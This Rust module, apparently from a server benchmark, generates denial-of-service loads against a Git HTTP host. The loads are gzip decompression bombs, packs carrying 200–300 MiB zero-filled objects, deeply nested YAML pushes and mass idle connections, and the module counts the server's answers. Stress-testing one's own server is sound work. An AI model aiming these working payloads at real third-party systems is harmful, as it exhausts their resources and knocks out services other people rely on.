//! Hostile requests to a server and its Git host.

use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use clap::ValueEnum;
use serde::Serialize;

const MIB: usize = 1 << 20;
const FETCH: &str = "git-upload-pack";
const PUSH: &str = "git-receive-pack";
const ZERO: &str = "0000000000000000000000000000000000000000";

/// A kind of hostile request.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Attack {
    /// Gzipped negotiations of 60 MiB each, 64 at a time
    Inflating,
    /// Packs of 204 KB with a commit of 200 MiB, one at a time
    Commit,
    /// The same, 16 at a time
    Commits,
    /// Packs of 306 KB with a blob of 300 MiB, four at a time
    Blobs,
    /// Files of deeply nested YAML pushed to refs/for
    Nested,
    /// Connections that send nothing, 1,000 to each port
    Idle,
}

impl Attack {
    pub(crate) const ALL: [Self; 6] =
        [Self::Inflating, Self::Commit, Self::Commits, Self::Blobs, Self::Nested, Self::Idle];

    pub(crate) fn what(self) -> &'static str {
        match self {
            Self::Inflating => "64 gzipped negotiations of 183 KB at a time, each of 60 MiB",
            Self::Commit => "packs of 204 KB with a commit of 200 MiB, one after the other",
            Self::Commits => "16 of these at a time",
            Self::Blobs => "4 packs of 306 KB at a time, each with a blob of 300 MiB",
            Self::Nested => "pushes of a file of 96 KB of nested YAML to `refs/for/main`",
            Self::Idle => "1,000 silent connections to each port",
        }
    }

    fn at_once(self) -> usize {
        match self {
            Self::Inflating => 64,
            Self::Commits => 16,
            Self::Blobs => 4,
            Self::Commit | Self::Nested | Self::Idle => 1,
        }
    }
}

/// Requests that are ready to be sent.
pub(crate) struct Attacker {
    attack: Attack,
    plan: Arc<Requests>,
}

enum Requests {
    /// The same request again and again.
    Posts {
        host: SocketAddr,
        service: &'static str,
        headers: Vec<String>,
        body: Vec<u8>,
    },
    /// Pushes with `git`, each with another commit.
    Pushes {
        work: PathBuf,
    },
    Connections {
        to: [SocketAddr; 2],
    },
}

impl Attacker {
    /// Makes the content. Blocks, and takes seconds.
    pub(crate) fn prepare(attack: Attack, host: SocketAddr, grpc: SocketAddr, folder: &Path) -> Result<Self> {
        let post = |service, headers, body| Requests::Posts { host, service, headers, body };
        let plan = match attack {
            Attack::Inflating => {
                let headers = ["Content-Encoding: gzip", "Git-Protocol: version=2"].map(ToOwned::to_owned).into();
                let have = format!("0032have {}\n", "1".repeat(40));
                let head = b"0011command=fetch0001".to_vec();
                post(FETCH, headers, gzip(&[head, have.repeat(60 * MIB / have.len()).into_bytes()].concat())?)
            }
            Attack::Commit | Attack::Commits => post(PUSH, Vec::new(), bomb(folder, "commit", 200 * MIB)?),
            Attack::Blobs => post(PUSH, Vec::new(), bomb(folder, "blob", 300 * MIB)?),
            Attack::Nested => {
                let work = folder.join("work");
                let url = format!("http://{host}/repo.git");
                git(folder, &["clone", "--quiet", "--branch=main", &url, "work"], b"")?;
                git(&work, &["config", "user.name", "bench"], b"")?;
                git(&work, &["config", "user.email", "bench@example.org"], b"")?;
                Requests::Pushes { work }
            }
            Attack::Idle => Requests::Connections { to: [host, grpc] },
        };
        Ok(Self { attack, plan: Arc::new(plan) })
    }

    /// Sends requests until it is stopped.
    pub(crate) fn start(self) -> Running {
        let (stop, answered) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let one = |number| {
            let (plan, stop, answered) = (self.plan.clone(), stop.clone(), answered.clone());
            std::thread::spawn(move || plan.send(number, &stop, &answered))
        };
        let threads = (0..self.attack.at_once()).map(one).collect();
        Running { stop, answered, threads }
    }
}

/// Requests that are being sent.
pub(crate) struct Running {
    stop: Arc<AtomicBool>,
    answered: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
}

impl Running {
    /// Stops them, and returns the number of answers. Blocks until the last one.
    pub(crate) fn stop(self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        let count = self.answered.load(Ordering::Relaxed);
        for thread in self.threads {
            thread.thread().unpark();
            // A thread that panicked has printed why.
            let _ended = thread.join();
        }
        count
    }
}

impl Requests {
    fn send(&self, number: usize, stop: &AtomicBool, answered: &AtomicU64) {
        match self {
            Self::Posts { host, service, headers, body } => {
                while !stop.load(Ordering::Relaxed) {
                    if post(*host, service, headers, body).is_ok() {
                        answered.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }
            Self::Pushes { work } => {
                for file in 0.. {
                    if stop.load(Ordering::Relaxed) {
                        return;
                    }
                    if push_nested(work, number, file).is_ok() {
                        answered.fetch_add(1, Ordering::Relaxed);
                    }
                }
            }
            Self::Connections { to } => {
                let open = |to: &SocketAddr| (0..1_000).filter_map(|_| TcpStream::connect(*to).ok()).collect();
                let held: Vec<Vec<TcpStream>> = to.iter().map(open).collect();
                answered.fetch_add(held.iter().map(|held| held.len() as u64).sum(), Ordering::Relaxed);
                while !stop.load(Ordering::Relaxed) {
                    std::thread::park();
                }
            }
        }
    }
}

/// Pushes a commit with a file that takes long to parse, if anything does.
fn push_nested(work: &Path, number: usize, file: usize) -> Result<()> {
    let folder = work.join("configmaps/default");
    fs::create_dir_all(&folder)?;
    let nested = format!("x: {}", "[".repeat(96 << 10));
    fs::write(folder.join("nested"), format!("{nested}{number}-{file}\n"))?;
    git(work, &["add", "--all"], b"")?;
    git(work, &["commit", "--quiet", "--message=nested"], b"")?;
    // A refusal is an answer, too.
    let _answer = git(work, &["push", "--quiet", "origin", "HEAD:refs/for/main"], b"");
    git(work, &["reset", "--quiet", "--hard", "HEAD~1"], b"")?;
    Ok(())
}

fn post(host: SocketAddr, service: &str, headers: &[String], body: &[u8]) -> Result<()> {
    let mut stream = TcpStream::connect(host)?;
    stream.set_read_timeout(Some(Duration::from_mins(2)))?;
    let headers = headers.iter().map(|header| format!("{header}\r\n")).collect::<Vec<_>>().concat();
    let head = format!(
        "POST /repo.git/{service} HTTP/1.0\r\nHost: {host}\r\nContent-Type: application/x-{service}-request\r\n\
         Content-Length: {}\r\n{headers}\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes())?;
    // The host may answer and close before it has read all.
    let _written = stream.write_all(body);
    let mut answer = Vec::new();
    let _ended = stream.read_to_end(&mut answer);
    ensure!(answer.starts_with(b"HTTP/"), "no answer");
    Ok(())
}

/// Returns a push of a pack with an object of zeros.
fn bomb(folder: &Path, kind: &str, bytes: usize) -> Result<Vec<u8>> {
    let repository = folder.join(format!("{kind}-{bytes}.git"));
    git(folder, &["init", "--quiet", "--bare", &repository.display().to_string()], b"")?;
    let hash = ["hash-object", "-t", kind, "--literally", "-w", "--stdin"];
    let id = String::from_utf8(git(&repository, &hash, &vec![0; bytes])?)?.trim().to_owned();
    let pack = git(&repository, &["pack-objects", "--stdout", "-q"], format!("{id}\n").as_bytes())?;
    let command = format!("{ZERO} {id} refs/heads/hostile\0report-status");
    let mut body = format!("{:04x}{command}0000", command.len() + 4).into_bytes();
    body.extend(pack);
    Ok(body)
}

fn gzip(content: &[u8]) -> Result<Vec<u8>> {
    piped(Command::new("gzip").arg("--stdout"), content)
}

fn git(folder: &Path, arguments: &[&str], input: &[u8]) -> Result<Vec<u8>> {
    piped(Command::new("git").arg("-C").arg(folder).args(arguments), input)
}

/// Runs a program with this input; returns its output.
fn piped(command: &mut Command, input: &[u8]) -> Result<Vec<u8>> {
    let name = command.get_program().display().to_string();
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().with_context(|| format!("cannot start {name}"))?;
    let mut stdin = child.stdin.take().context("the input is piped")?;
    let output = std::thread::scope(|scope| {
        // Fails if the program reads no input.
        scope.spawn(move || drop(stdin.write_all(input)));
        child.wait_with_output()
    })?;
    ensure!(output.status.success(), "{name} failed: {}", String::from_utf8_lossy(&output.stderr));
    Ok(output.stdout)
}
